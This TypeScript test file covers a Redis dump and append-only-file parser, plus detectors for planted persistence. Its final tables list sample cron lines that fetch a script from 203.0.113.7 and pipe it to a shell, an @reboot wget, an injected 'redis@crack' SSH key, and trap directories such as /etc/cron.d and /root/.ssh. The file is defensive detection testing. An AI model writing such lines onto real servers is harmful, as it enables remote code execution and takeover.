import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { redisDump } from '../../hosts/redis-dump.ts'
import { aofStrings, rdbStrings } from './rdb-strings.ts'
import { isPlanted, isTrap } from './redis-data.ts'

const header = Buffer.from('REDIS0009')
const dumpOf = (keys: readonly (readonly [string, string])[]) => {
  const content = redisDump(keys)
  return Buffer.from('base64' in content ? content.base64 : '', 'base64')
}
const word = fc.string({ minLength: 1, maxLength: 200, unit: 'binary-ascii' })

test('whatever strings a dump holds are read again', () =>
  fc.assert(
    fc.property(fc.array(fc.tuple(word, word), { maxLength: 12 }), keys => {
      assert.deepEqual(
        rdbStrings(dumpOf(keys)),
        keys.map(([key, value]) => ({ key, value })),
      )
    }),
  ))

test('bytes without sense end the reading', () =>
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 300 }), bytes => {
      const strings = rdbStrings(Buffer.concat([header, bytes]))
      assert.equal(strings.length <= 300, true)
    }),
  ))

test('a dump that is cut anywhere gives its beginning', () => {
  const keys = [
    ['a', 'one'],
    ['b', 'x'.repeat(100)],
    ['c', 'three'],
  ] as const
  const whole = dumpOf(keys)
  const all = rdbStrings(whole)
  assert.equal(all.length, 3)
  for (let at = 0; at < whole.length; at++) {
    const some = rdbStrings(whole.subarray(0, at))
    assert.deepEqual(some, all.slice(0, some.length))
  }
})

for (const [name, value, expected] of [
  ['a small number', [0xc0, 0x07], '7'],
  ['a number of two bytes', [0xc1, 0x10, 0x27], '10000'],
  ['a packed string', [0xc3, 0x05, 0x0a, 0x00, 0x61, 0xe0, 0x00, 0x00], 'aaaaaaaaaa'],
  ['a length of four bytes', [0x80, 0, 0, 0, 2, 0x68, 0x69], 'hi'],
] as const)
  test(`${name} as a value`, () => {
    const bytes = Buffer.concat([header, Buffer.of(0, 1, 0x6b, ...value)])
    assert.deepEqual(rdbStrings(bytes), [{ key: 'k', value: expected }])
  })

test('lists, sets, hashes and times are stepped over', () => {
  const list = [1, 1, 0x6c, 2, 1, 0x61, 1, 0x62]
  const hash = [4, 1, 0x68, 1, 1, 0x66, 1, 0x76]
  const ranked = [5, 1, 0x7a, 1, 1, 0x6d, ...Array.from({ length: 8 }, () => 0)]
  const packed = [17, 1, 0x70, 3, 1, 2, 3]
  const quick = [18, 1, 0x71, 1, 2, 2, 9, 9]
  const time = [0xfc, 1, 2, 3, 4, 5, 6, 7, 8]
  const bytes = Buffer.of(...list, ...hash, ...ranked, ...packed, ...quick, ...time, 0, 1, 0x6b, 1, 0x76)
  assert.deepEqual(rdbStrings(Buffer.concat([header, bytes])), [{ key: 'k', value: 'v' }])
})

test('an append-only file gives what it sets', () => {
  const log =
    '*2\r\n$6\r\nSELECT\r\n$1\r\n0\r\n*3\r\n$3\r\nSET\r\n$7\r\nbackup1\r\n$5\r\nhello\r\n*2\r\n$3\r\nDEL\r\n$1\r\na\r\n'
  assert.deepEqual(aofStrings(Buffer.from(log)), [{ key: 'backup1', value: 'hello' }])
})

for (const [value, expected] of [
  ['\n\n*/2 * * * * root cd1 -fsSL http://203.0.113.7/b.sh | sh\n', true],
  ['\n\n@reboot root wget -q http://203.0.113.7/x\n', true],
  ['\n\nssh-rsa AAAAB3Nza redis@crack\n\n', true],
  ['*/2 * * * * curl -fsS https://health.example/ping', false],
  ['report\n5 items 3 of 4 done\n', false],
  ['ssh-rsa AAAAB3Nza anna@laptop', false],
] as const)
  test(`planted: ${JSON.stringify(value)}`, () => assert.equal(isPlanted(value), expected))

for (const [directory, expected] of [
  ['/var/spool/cron/crontabs', true],
  ['/etc/cron.d', true],
  ['/root/.ssh/', true],
  ['/var/lib/redis', false],
  ['/srv/cron-data', false],
] as const)
  test(`trap: ${directory}`, () => assert.equal(isTrap(directory), expected))
